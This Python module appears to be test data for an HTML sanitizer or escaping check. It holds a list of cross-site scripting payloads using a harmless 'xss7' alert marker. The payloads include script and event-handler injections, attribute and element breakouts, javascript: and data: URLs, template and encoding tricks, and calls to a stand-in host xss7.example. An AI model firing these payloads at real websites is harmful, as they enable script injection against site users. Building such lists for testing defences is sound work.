"""What hostile outlets, files and readers write where a name, a text or an address is expected: a table of attacks."""

from __future__ import annotations

MARK = "xss7"
"""Stands in every payload; a page that runs one would say it aloud."""

PAYLOADS: tuple[str, ...] = (
    # elements that run by themselves
    "<script>alert('xss7')</script>",
    "<ScRiPt>alert('xss7')</sCrIpT >",
    "<script src=//xss7.example/a.js></script>",
    "<scr<script>ipt>alert('xss7')</scr</script>ipt>",
    "<img src=x onerror=alert('xss7')>",
    '<img src="x" onerror="alert(&quot;xss7&quot;)">',
    "<img/src=`x`/onerror=alert(`xss7`)>",
    "<svg onload=alert('xss7')>",
    "<svg><script>alert('xss7')</script></svg>",
    "<svg/onload=alert`xss7`//",
    "<svg><animate onbegin=alert('xss7') attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(`xss7`)</script>'>",
    "<body onload=alert('xss7')>",
    "<iframe src=javascript:alert('xss7')></iframe>",
    "<iframe srcdoc='<script>alert(`xss7`)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(`xss7`)</script>'></object>",
    "<embed src='javascript:alert(`xss7`)'>",
    "<details open ontoggle=alert('xss7')>",
    "<video><source onerror=alert('xss7')></video>",
    "<audio src=x onerror=alert('xss7')>",
    "<input autofocus onfocus=alert('xss7')>",
    "<select autofocus onfocus=alert('xss7')>",
    "<marquee onstart=alert('xss7')>",
    "<a href=javascript:alert('xss7')>xss7</a>",
    "<a href='data:text/html,<script>alert(`xss7`)</script>'>xss7</a>",
    "<form action=javascript:alert('xss7')><button>xss7</button></form>",
    "<button formaction=javascript:alert('xss7')>xss7</button>",
    "<base href=//xss7.example/>",
    "<link rel=stylesheet href=//xss7.example/a.css>",
    "<style>*{background:url(//xss7.example)}</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(`xss7`)'>",
    "<!--><script>alert('xss7')</script>-->",
    "<template><script>alert('xss7')</script></template>",
    # out of an attribute, out of an element
    '" onmouseover="alert(\'xss7\')" x="',
    "' onmouseover='alert(`xss7`)' x='",
    "\"><script>alert('xss7')</script>",
    "'><img src=x onerror=alert('xss7')>",
    "</title><script>alert('xss7')</script>",
    "</textarea><script>alert('xss7')</script>",
    "</style><script>alert('xss7')</script>",
    "</option></select><img src=x onerror=alert('xss7')>",
    "`onmouseover=alert('xss7')",
    # addresses
    "javascript:alert('xss7')",
    "JaVaScRiPt:alert('xss7')//https://warta.example/",
    "java\tscript:alert('xss7')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzNycpPC9zY3JpcHQ+#xss7",
    "vbscript:msgbox('xss7')",
    "https://warta.example/\"onmouseover=\"alert('xss7')",
    # templates, encodings, what spreadsheets run
    "{{ 7 * 7 }}{% raw %}{{ config }}xss7{% endraw %}${alert('xss7')}",
    "%3Cscript%3Ealert('xss7')%3C/script%3E&lt;script&gt;alert('xss7')&lt;/script&gt;",
    "\u202e\u2066<script>alert('xss7')</script>\u2028\ufeff",
    '=HYPERLINK("http://xss7.example";"xss7")<script>alert(\'xss7\')</script>',
)
